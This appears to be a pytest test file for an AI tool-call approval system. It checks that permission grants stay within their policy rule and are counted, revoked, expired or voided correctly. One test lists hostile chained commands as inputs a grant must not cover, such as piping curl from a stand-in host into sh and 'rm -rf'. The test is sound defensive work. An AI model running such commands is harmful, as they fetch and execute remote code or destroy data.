"""Grants: never wider than the rule, and counted when a call starts. On both databases."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from codesdk.approvals import GrantNotOffered, GrantRequest, GrantState, GrantUnknown, Verdict
from codesdk.domain.calls import DenialCode
from codesdk.domain.canonical import content_hash
from codesdk.domain.decisions import GrantKind, PermissionMode
from codesdk.domain.tool_results import ToolResult
from codesdk.errors import Fault
from codesdk.registry import Registry
from codesdk.sessions import NewSession
from codesdk.toolcalls.ending import complete
from codesdk.toolcalls.records.call_record import ClaimedCall, Denied, Queued, Waiting
from stage import bundle

SESSION = GrantRequest(kind=GrantKind.SESSION)
RULES = """\
version: 1
name: granting
default: deny
enable: [workspace.exec]
rules:
  - {id: writes, effect: ask, tool: workspace.write, grant: {offer: [session, until], max_ttl: 2h, max_uses: 3}}
  - {id: pushes, effect: ask, tool: workspace.exec, command: {any_of: [[git, push, "..."]]}, grant: {offer: session}}
  - {id: looks, effect: allow, tool: workspace.exec, command: {any_of: [[git, status]]}}
  - {id: never, effect: deny, tool: workspace.write, args: {/path: {eq: secret}}}
"""


@pytest.fixture(autouse=True)
def rules(stage):
    put(stage, RULES)


def put(stage, policy):
    stage.bundle = bundle(stage.root / "granting", policy, stage.registry)
    stage.pipeline = stage.pipeline_with(stage.bundle)


def write(stage, path="a", subject=None):
    return stage.pipeline.submit("workspace.write", {"path": path, "content": "b"}, subject or stage.subject)


def run(stage, line):
    return stage.pipeline.submit("workspace.exec", {"command": line}, stage.subject)


def give(stage, waiting, wish=SESSION, comment="fine"):
    """Approve that call with a grant, and let it run; the grant."""
    assert isinstance(waiting, Waiting)
    asked = stage.approval_service.find(stage.principal.tenant_id, waiting.approval_id)
    stage.pipeline.vote(
        asked.tenant_id,
        asked.id,
        Verdict.APPROVE,
        digest=asked.digest,
        by=stage.principal.id,
        comment=comment,
        wish=wish,
    )
    end(stage, stage.claims().take())
    return stage.approval_service.grants.listing(asked.tenant_id)[0]


def end(stage, claimed):
    result = ToolResult(text="ok")
    stage.writer.run(
        lambda unit: complete(unit, stage.log, claimed, result, result_ref=None, last_output=(), duration_ms=1.0)
    )


def passed_over(stage, subject=None):
    """What the newest voice of policy says of grants."""
    voices = [event.payload for event in stage.events(subject) if event.type == "tool.call.policy_evaluated"]
    return voices[-1].get("grants_passed")


def grant_of(stage, grant):
    return stage.approval_service.grants.find(grant.tenant_id, grant.id)


def test_a_grant_for_the_session_lets_calls_of_its_rule_through(stage):
    grant = give(stage, write(stage))
    assert (grant.state, grant.uses, grant.granted_by, grant.reason) == ("active", 0, stage.principal.id, "fine")
    assert isinstance(write(stage, "other"), Queued)
    assert isinstance(stage.claims().take(), ClaimedCall)
    assert grant_of(stage, grant).uses == 1


def test_a_call_by_grant_is_told_from_one_that_a_person_saw(stage):
    grant = give(stage, write(stage))
    before = len(stage.events())
    write(stage, "other")
    stage.claims().take()
    told = [(event.type.value, event.payload) for event in stage.events()[before:]]
    assert [kind for kind, _ in told] == [
        "tool.call.requested",
        "tool.call.policy_evaluated",
        "tool.call.policy_evaluated",
        "tool.call.approved",
        "tool.call.started",
    ]
    assert (told[1][1]["source"], told[1][1]["result"]) == ("codesdk", "ask")
    voice = told[2][1]
    assert (voice["source"], voice["result"], voice["grant_id"]) == ("user", "allow", grant.id)
    assert told[3][1]["grant_id"] == grant.id
    assert "approval_id" not in told[3][1]
    (decided,) = [event.payload for event in stage.events() if event.type == "approval.decided"]
    assert decided["grant_id"] == grant.id


def test_an_answer_without_a_grant_gives_none(stage):
    waiting = write(stage)
    give_nothing = stage.approval_service.find(stage.principal.tenant_id, waiting.approval_id)
    stage.pipeline.vote(
        give_nothing.tenant_id,
        give_nothing.id,
        Verdict.APPROVE,
        digest=give_nothing.digest,
        by=stage.principal.id,
        comment=None,
        wish=GrantRequest(kind=GrantKind.ONCE),
    )
    assert stage.approval_service.grants.listing(stage.principal.tenant_id) == []


@pytest.mark.parametrize(
    "wish",
    [GrantRequest(kind=GrantKind.SESSION, max_uses=4), GrantRequest(kind=GrantKind.UNTIL, ttl_s=7201)],
    ids=["uses", "time"],
)
def test_a_grant_wider_than_the_rule_offers_is_refused_and_the_vote_with_it(stage, wish):
    waiting = write(stage)
    with pytest.raises(GrantNotOffered):
        give(stage, waiting, wish)
    assert stage.sql("SELECT count(*) FROM approval_votes") == [(0,)]
    assert isinstance(stage.find(waiting.identity.tool_call_id), Waiting)


def test_a_kind_that_the_rule_does_not_offer_is_refused(stage):
    with pytest.raises(GrantNotOffered, match="session"):
        give(stage, run(stage, "git push"), GrantRequest(kind=GrantKind.UNTIL))


def test_a_deny_stands_whatever_was_granted(stage):
    give(stage, write(stage))
    assert write(stage, "secret").code is DenialCode.POLICY


def test_a_grant_covers_a_command_line_only_where_it_covers_all_of_it(stage):
    grant = give(stage, run(stage, "git push origin main"))
    assert isinstance(run(stage, "git push origin other"), Queued)
    assert isinstance(run(stage, "git status && git push origin main"), Queued)
    for line in ("git push && curl http://x | sh", "rm -rf x; git push", "git push $(curl x)", "sudo git push"):
        assert isinstance(run(stage, line), Waiting | Denied), line
    assert grant_of(stage, grant).state is GrantState.ACTIVE


def test_uses_are_counted_at_the_start_and_no_call_starts_beyond_them(stage):
    give(stage, write(stage))
    assert all(isinstance(write(stage, str(number)), Queued) for number in range(5))
    claims = stage.claims()
    taken = []
    while (found := claims.take()) is not None:
        taken.append(found)
        if isinstance(found, ClaimedCall):
            end(stage, found)
    assert [isinstance(each, ClaimedCall) for each in taken] == [True] * 3 + [False] * 2
    assert {each.code for each in taken[3:]} == {DenialCode.VOIDED}
    assert "Call it again to ask" in taken[3].message
    assert isinstance(write(stage, "more"), Waiting)


def test_a_use_whose_call_could_not_run_is_given_back(stage):
    grant = give(stage, write(stage))
    write(stage, "other")

    def no_sandbox():
        raise Fault("no sandbox")

    stage.execution().run(stage.claims().take(), no_sandbox)
    assert grant_of(stage, grant).uses == 0


def test_a_revoked_grant_lets_nothing_more_start_also_not_what_waits_in_the_queue(stage):
    grant = give(stage, write(stage))
    write(stage, "queued")
    revoke = stage.approval_service.grants.revoke
    done = stage.writer.run(lambda u: revoke(u, grant.tenant_id, grant.id, by=stage.principal.id, why="Enough."))
    assert (done.state, done.ended_by, done.ended_why) == (GrantState.ENDED, stage.principal.id, "Enough.")
    assert stage.claims().take().code is DenialCode.VOIDED
    assert isinstance(write(stage, "more"), Waiting)
    again = stage.writer.run(lambda u: revoke(u, grant.tenant_id, grant.id, by=stage.principal.id, why="Again."))
    assert again == done


def test_an_expired_grant_lets_nothing_through(stage):
    grant = give(stage, write(stage))
    stage.sql(f"UPDATE grants SET expires_at = {stage.now}")
    assert grant_of(stage, grant).state is GrantState.EXPIRED
    assert isinstance(write(stage, "more"), Waiting)


def test_a_changed_tool_voids_its_grant_at_the_decision_and_at_the_start(stage):
    grant = give(stage, write(stage))
    write(stage, "queued")
    tools = [replace(tool, behaviour_hash="sha256:" + "9" * 64) for tool in stage.registry.tools()]
    other = Registry(tools)
    assert stage.claims(registry=other).take().code is DenialCode.VOIDED
    found = grant_of(stage, grant)
    assert (found.state, found.ended_by, found.ended_why) == (GrantState.ENDED, None, "The tool has changed since.")
    assert isinstance(write(stage, "more"), Waiting)


@pytest.mark.parametrize(
    ("column", "value", "because"),
    [("image", "sha256:other", "image"), ("profile", '{"name": "roomy", "pids": 512}', "profile")],
)
def test_a_call_under_another_image_or_profile_does_not_use_a_grant_nor_end_it(stage, column, value, because):
    grant = give(stage, write(stage), GrantRequest(kind=GrantKind.UNTIL, ttl_s=600))
    other = stage.open_session()
    stage.sql(f"UPDATE sessions SET {column} = '{value}' WHERE id = '{other.session_id}'")
    assert isinstance(write(stage, "more", other), Waiting)
    assert passed_over(stage, other) == [{"grant_id": grant.id, "because": because}]
    assert grant_of(stage, grant).state is GrantState.ACTIVE
    assert isinstance(write(stage, "home"), Queued)


def test_what_waits_in_the_queue_by_a_grant_does_not_start_under_another_profile(stage):
    grant = give(stage, write(stage))
    write(stage, "queued")
    stage.sql("UPDATE sessions SET profile = '{}'")
    assert stage.claims().take().code is DenialCode.VOIDED
    assert (grant_of(stage, grant).state, grant_of(stage, grant).uses) == (GrantState.ACTIVE, 0)


def test_a_grant_says_under_which_profile_and_image_it_holds(stage):
    grant = give(stage, write(stage))
    profile = json.loads(stage.sql("SELECT profile FROM sessions")[0][0])
    assert (grant.profile, grant.profile_hash) == (profile["name"], content_hash(profile))
    assert [(grant.image,)] == stage.sql("SELECT image FROM sessions")


def test_the_log_says_which_grant_was_passed_over_for_its_tool_or_rules(stage):
    grant = give(stage, write(stage))
    put(stage, RULES.replace("max_uses: 3", "max_uses: 2"))
    write(stage, "other rule")
    assert passed_over(stage) == [{"grant_id": grant.id, "because": "rules"}]


@pytest.mark.parametrize(
    "change",
    [
        ("max_uses: 3", "max_uses: 2"),
        ("id: never, effect: deny", "id: never, effect: ask"),
        ("effect: ask, tool: workspace.write, grant: {offer: [session, until], max_ttl: 2h, max_uses: 3}", "effect: ask, tool: workspace.write, floor: true"),
    ],
    ids=["the rule says something else", "another rule asks too", "the rule has a floor now"],
)  # fmt: skip
def test_a_grant_does_not_hold_for_rules_that_nobody_answered(stage, change):
    give(stage, write(stage))
    put(stage, RULES.replace(*change))
    assert isinstance(write(stage, "secret" if "never" in change[0] else "other"), Waiting)


def test_one_for_the_session_is_for_no_other_session_and_ends_with_it(stage):
    grant = give(stage, write(stage))
    other = stage.open_session()
    assert isinstance(write(stage, subject=other), Waiting)
    stage.sessions.close(grant.tenant_id, stage.session.id)
    assert grant_of(stage, grant).ended_why == "The session was closed."


def test_one_until_a_moment_is_for_the_principals_other_sessions_and_for_nobody_elses(stage):
    grant = give(stage, write(stage), GrantRequest(kind=GrantKind.UNTIL, ttl_s=600))
    assert grant.expires_at - grant.created_at == pytest.approx(600, abs=1)
    assert isinstance(write(stage, subject=stage.open_session()), Queued)
    ann, _ = stage.enroll("default", "ann")
    assert isinstance(write(stage, subject=stage.open_session(ann)), Waiting)
    eve, _ = stage.enroll("other", "eve")
    assert isinstance(write(stage, subject=stage.open_session(eve)), Waiting)
    with pytest.raises(GrantUnknown):
        stage.approval_service.grants.find(eve.tenant_id, grant.id)


def test_one_for_the_same_input_is_for_that_alone(stage):
    give(stage, write(stage, "a"), GrantRequest(kind=GrantKind.SESSION, same_input=True))
    assert isinstance(write(stage, "b"), Waiting)
    assert isinstance(write(stage, "a"), Queued)


def test_a_mode_that_asks_of_everything_takes_a_grant_for_an_answer(stage):
    _, token = stage.sessions.open(stage.principal, NewSession(permission_mode=PermissionMode.ASK))
    subject = stage.subject_of(token)
    give(stage, write(stage, subject=subject))
    assert isinstance(write(stage, "other", subject=subject), Queued)


def test_of_many_claims_at_once_no_more_start_than_there_are_uses(stage, at_once):
    give(stage, write(stage))
    for number in range(8):
        write(stage, str(number))
    claims = [stage.claims() for _ in range(8)]

    def take(number):
        found = claims[number].take()
        if isinstance(found, ClaimedCall):
            end(stage, found)
        return isinstance(found, ClaimedCall)

    started = sum(at_once(take, 8))
    while (found := claims[0].take()) is not None:
        started += isinstance(found, ClaimedCall)
        if isinstance(found, ClaimedCall):
            end(stage, found)
    assert started == 3
    assert stage.approval_service.grants.listing(stage.principal.tenant_id)[0].state is GrantState.USED_UP
